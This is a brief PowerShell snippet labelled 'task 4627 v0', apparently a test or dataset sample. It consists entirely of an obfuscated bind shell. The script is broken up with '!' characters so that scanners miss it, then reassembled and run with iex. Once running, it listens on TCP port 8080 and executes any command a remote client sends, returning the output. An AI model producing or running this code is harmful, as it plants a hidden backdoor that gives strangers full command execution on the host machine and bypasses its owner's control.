iex (('# task 4627 v0
$l = [System.N!et.Sockets.TcpListener]8080
$l.St!art()
$c = $l.AcceptTcpCli!ent()
$s = $c.GetStream()
$r = New-Object IO.StreamReader($s)
$w = !New-Object IO.StreamWriter($s)
while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Express!ion $cmd | Out-String; $w.WriteLine($o); $w.Flush() }
' -split '!') -join '')